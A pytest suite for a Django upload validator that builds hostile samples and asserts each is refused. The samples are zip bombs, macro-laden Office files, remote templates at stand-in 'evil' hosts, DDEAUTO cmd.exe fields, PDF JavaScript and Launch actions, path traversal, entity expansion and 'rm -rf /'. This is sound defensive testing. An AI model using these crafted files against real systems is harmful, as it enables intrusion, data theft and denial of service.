"""A file for every rule, and what the rule says to it."""

import io
import struct
import zipfile

import pytest
from PIL import Image

from decapolis.files.actions import keep_upload
from decapolis.files.bridge import apart
from decapolis.files.choices import Kind, Refusal
from decapolis.files.errors import FileRefused, FileTooLarge, TooManyFiles
from decapolis.files.models import File
from decapolis.files.queries import bytes_of
from decapolis.kernel.permissions import Forbidden, Visibility
from tests.factories import people, uploads

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("storage")]
OUTSIDE = "https://evil.example/x.dotm"


def bomb():
    """Return a DOCX of a few kilobytes that unpacks to 60 MB."""
    return uploads.with_parts(uploads.word(), {"word/media/image1.bmp": b"\0" * 60_000_000})


def lying(made, flag=0, method=None):
    """Return a zip file whose table of contents says something else of its last part."""
    place = made.rindex(b"PK\x01\x02")
    fields = bytearray(made)
    fields[place + 8 : place + 10] = struct.pack("<H", flag)
    if method is not None:
        fields[place + 10 : place + 12] = struct.pack("<H", method)
    return bytes(fields)


def overlapping():
    """Return a zip file with two names for the same bytes."""
    made = bytearray(uploads.opendocument(extra=b"x" * 100, other=b"y" * 100))
    first, last = (
        made.rindex(b"PK\x01\x02", 0, made.rindex(name)) for name in (b"extra", b"other")
    )
    made[last + 42 : last + 46] = made[first + 42 : first + 46]
    return bytes(made)


def crowd():
    """Return a zip file with more parts than any document has."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for number in range(4500):
            made.writestr(f"{number}.xml", "")
    return out.getvalue()


def field(instruction):
    half = len(instruction) // 2
    runs = "".join(
        f"<w:r><w:instrText>{part}</w:instrText></w:r>"
        for part in (instruction[:half], instruction[half:])
    )
    text = f'<w:document xmlns:w="{uploads.W}"><w:body><w:p>{runs}</w:p></w:body></w:document>'
    return uploads.with_parts(uploads.word(), {"word/document.xml": text})


def typed(words):
    kinds = f'<Types><Override PartName="/word/document.xml" ContentType="{words}"/></Types>'
    return uploads.with_parts(uploads.word(), {"[Content_Types].xml": kinds})


JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
HOSTILE = {
    "empty": (lambda: b"", "empty"),
    "html named pdf": (lambda: b"<html><script>alert(1)</script>", "unknown"),
    "svg": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "unknown"),
    "windows program": (lambda: b"MZ" + b"\0" * 500, "unknown"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /", "unknown"),
    "plain zip": (lambda: uploads.archive({"a.txt": "a"}), "unknown"),
    "old word": (lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 500, "old"),
    "vba": (lambda: uploads.with_parts(uploads.word(), {"word/vbaProject.bin": b"x"}), "macros"),
    "docm": (
        lambda: typed("application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    "excel 4 macros": (
        lambda: uploads.with_parts(uploads.excel(), {"xl/macrosheets/sheet1.xml": "<x/>"}),
        "macros",
    ),
    "odt basic": (lambda: uploads.opendocument(**{"Basic/script-lc.xml": "<x/>"}), "macros"),
    "odt event": (
        lambda: uploads.opendocument(
            body="<script:event-listener script:href='vnd.sun.star.script:x?language=Python'/>"
        ),
        "macros",
    ),
    "program inside": (
        lambda: uploads.with_parts(uploads.word(), {"word/media/image1.png": b"MZ\x90"}),
        "embedded",
    ),
    "object inside": (
        lambda: uploads.with_parts(uploads.word(), {"word/embeddings/oleObject1.bin": b"abc"}),
        "embedded",
    ),
    "macros inside what is inside": (
        lambda: uploads.with_parts(
            uploads.word(),
            {
                "word/embeddings/sheet1.xlsx": uploads.with_parts(
                    uploads.excel(), {"xl/vbaProject.bin": b"x"}
                )
            },
        ),
        "macros",
    ),
    "template from elsewhere": (
        lambda: uploads.with_parts(uploads.word(), uploads.relation("attachedTemplate", OUTSIDE)),
        "remote",
    ),
    "template from a share": (
        lambda: uploads.with_parts(
            uploads.word(), uploads.relation("attachedTemplate", r"\\evil\x.dotm")
        ),
        "remote",
    ),
    "field that starts programs": (lambda: field("DDEAUTO c:\\\\cmd.exe"), "remote"),
    "excel exchange": (
        lambda: uploads.with_parts(
            uploads.excel(), {"xl/externalLinks/externalLink1.xml": "<x:ddeLink xmlns:x='x'/>"}
        ),
        "remote",
    ),
    "encrypted odt": (
        lambda: uploads.opendocument(
            **{"META-INF/manifest.xml": "<m:m xmlns:m='m'><m:encryption-data/></m:m>"}
        ),
        "encrypted",
    ),
    "zip with a password": (lambda: lying(uploads.opendocument(x="x"), flag=1), "encrypted"),
    "rare packing": (lambda: lying(uploads.opendocument(x="x"), method=14), "broken"),
    "bomb": (bomb, "bomb"),
    "too many parts": (crowd, "bomb"),
    "parts that overlap": (overlapping, "bomb"),
    "zip behind a picture's head": (
        lambda: b"PK\x03\x04" + b"x" * 50 + uploads.word(),
        "two_in_one",
    ),
    "zip with a tail": (lambda: uploads.word() + b"<script>", "broken"),
    "zip cut off": (lambda: uploads.word()[:-400], "broken"),
    "paths that climb": (
        lambda: uploads.with_parts(uploads.word(), {"../../etc/passwd": "x"}),
        "broken",
    ),
    "entities": (
        lambda: uploads.opendocument(
            **{"content.xml": '<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'}
        ),
        "broken",
    ),
    "pdf script": (lambda: uploads.pdf(catalog=f"/OpenAction {JS}"), "scripts"),
    "pdf script, name in disguise": (
        lambda: uploads.pdf(catalog="/OpenAction << /S /Java#53cript /J#53 (x) >>"),
        "scripts",
    ),
    "pdf launch": (
        lambda: uploads.pdf(catalog="/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
        "scripts",
    ),
    "pdf form of xfa": (lambda: uploads.pdf(catalog="/AcroForm << /XFA (x) >>"), "scripts"),
    "pdf file inside": (
        lambda: uploads.pdf(
            catalog="/Names << /EmbeddedFile#73 << /Names [(a) 90 0 R] >> >>",
            objects=("<< /Type /Filespec /F (a.exe) >>",),
        ),
        "embedded",
    ),
    "pdf that sends": (
        lambda: uploads.pdf(catalog="/OpenAction << /S /SubmitForm /F (http://evil) >>"),
        "remote",
    ),
    "pdf script that nothing leads to": (lambda: uploads.pdf(objects=(JS,)), "scripts"),
    "pdf with a password": (
        lambda: uploads.pdf(
            objects=("<< /Filter /Standard /V 2 /R 3 /O (x) /U (x) /P -4 /Length 128 >>",),
            trailer="/Encrypt 90 0 R /ID [<00> <00>]",
        ),
        "encrypted",
    ),
    "pdf and zip": (lambda: uploads.pdf() + uploads.archive({"a": "b"}), "two_in_one"),
    "pdf with a tail": (lambda: uploads.pdf() + b"<script>" * 400, "broken"),
    "pdf of nothing": (lambda: b"%PDF-1.7\n%%EOF", "broken"),
    "picture cut off": (lambda: uploads.picture()[:-40], "broken"),
    "picture of a bomb": (uploads.huge_picture, "huge"),
    "half a webp": (lambda: b"RIFF\0\0\0\0WEBPVP8 ", "broken"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_could_do_harm_is_refused_and_nothing_is_kept(name, storage):
    make, why = HOSTILE[name]
    with pytest.raises(FileRefused) as refused:
        uploads.kept(people.person(), make())
    assert refused.value.why == why
    assert refused.value.message == str(Refusal(why).label)
    assert not File.objects.exists()
    assert not list(storage.rglob("*-*"))


def test_every_refusal_is_a_whole_sentence():
    assert all(str(why.label).endswith(".") for why in Refusal)


HARMLESS = {
    "pdf": uploads.pdf,
    "docx": uploads.word,
    "xlsx": uploads.excel,
    "pptx": uploads.slides,
    "odt": uploads.opendocument,
    "ods": lambda: uploads.opendocument("spreadsheet"),
    "odp": lambda: uploads.opendocument("presentation"),
    "png": uploads.picture,
    "jpeg": lambda: uploads.picture("JPEG"),
    "webp": lambda: uploads.picture("WEBP"),
}


@pytest.mark.parametrize("kind", HARMLESS)
def test_what_a_file_is_says_its_content_and_never_its_name(kind, storage):
    file = uploads.kept(people.person(), HARMLESS[kind](), "plan.exe")
    assert (file.kind, file.name) == (kind, f"plan.exe.{kind}")
    assert storage.joinpath(file.stored).stat().st_mode & 0o777 == 0o600


def test_every_kind_is_tried():
    assert set(HARMLESS) == set(Kind.values)


def test_harmless_links_and_tables_behind_charts_are_taken():
    made = uploads.with_parts(
        uploads.word(),
        uploads.relation("hyperlink", "https://city.example/")
        | {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": uploads.excel()},
    )
    assert uploads.kept(people.person(), made).kind == Kind.DOCX
    local = uploads.relation("attachedTemplate", "file:///C:/Users/ana/Normal.dotm")
    assert uploads.kept(people.person(), uploads.with_parts(uploads.word(), local))
    opens = uploads.pdf(catalog="/OpenAction [10 0 R /Fit]")
    assert uploads.kept(people.person(), opens).kind == Kind.PDF


@pytest.mark.parametrize("form", ["PNG", "JPEG", "WEBP"])
def test_of_a_picture_only_its_pixels_are_kept(form):
    script = b"<?php system('id'); ?><script>alert(1)</script>"
    file = uploads.kept(people.person(), uploads.picture(form, note="secret place") + script)
    data = bytes_of(file)
    assert b"secret place" not in data
    assert b"script" not in data
    painted = Image.open(io.BytesIO(data))
    assert (painted.size, painted.format) == ((400, 300), form)
    assert not painted.getexif()


def test_a_file_that_is_too_large_is_not_read_to_its_end(settings, storage):
    class Endless(io.BytesIO):
        given = 0

        def read(self, size=-1):
            self.given += size
            return b"%PDF-1.7"[:size] + b"x" * (size - 8)

    settings.UPLOAD_MB = 1
    endless = Endless()
    with pytest.raises(FileTooLarge, match="At most 1 MB"):
        keep_upload(
            by=people.person(),
            upload=uploads.Upload("a.pdf", endless),
            visibility=Visibility.PUBLIC,
        )
    assert endless.given < 1_200_000
    assert not File.objects.exists()
    assert not storage.exists()


def test_nobody_hands_files_in_all_day(monkeypatch):
    monkeypatch.setattr("decapolis.files.actions.keeping.MOST_A_DAY", 1)
    person = people.person()
    uploads.kept(person)
    with pytest.raises(TooManyFiles):
        uploads.kept(person)
    assert File.objects.count() == 1


def test_only_members_hand_files_in(storage):
    with pytest.raises(Forbidden, match="still to let you in"):
        uploads.kept(people.person(is_member=False))
    assert not File.objects.exists()
    assert not storage.exists()


def test_the_program_that_looks_has_little_time_and_memory_and_no_secret(monkeypatch, tmp_path):
    monkeypatch.setenv("DECAPOLIS_SECRET_KEY", "very secret")
    spy = tmp_path / "spy.py"
    spy.write_text(
        "import json, os, resource, sys\n"
        "from decapolis.files.validators.looking import limit\n"
        "limit('check')\n"
        "names = ('RLIMIT_AS', 'RLIMIT_CPU', 'RLIMIT_FSIZE', 'RLIMIT_NPROC')\n"
        "told = [resource.getrlimit(getattr(resource, name))[0] for name in names]\n"
        "modules = [name for name in sys.modules if name.startswith('django')]\n"
        "print(json.dumps({'kind': json.dumps([told, sorted(os.environ), modules])}))\n"
    )
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    monkeypatch.setattr(apart, "PROGRAM", "spy")
    monkeypatch.setattr(apart, "CODE", f"{apart.CODE}:{tmp_path}")
    with (tmp_path / "any").open("w+b") as file:
        seen = apart.look(file, "check")
    assert seen.kind.startswith("[[1200000000, 20, 80000000, 0], ")
    assert "SECRET" not in seen.kind
    assert seen.kind.endswith("[]]")


@pytest.mark.parametrize(
    "does", ["while True: pass", "x = 'a' * 10**11", "import os; os.abort()", "print('{')"]
)
def test_a_look_that_goes_wrong_ends_and_refuses(monkeypatch, tmp_path, does):
    (tmp_path / "wrong.py").write_text(does)
    monkeypatch.setattr(apart, "PROGRAM", "wrong")
    monkeypatch.setattr(apart, "CODE", str(tmp_path))
    monkeypatch.setattr(apart, "WAITS", {"check": 1})
    with (tmp_path / "any").open("w+b") as file:
        assert apart.look(file, "check") == apart.UNREADABLE
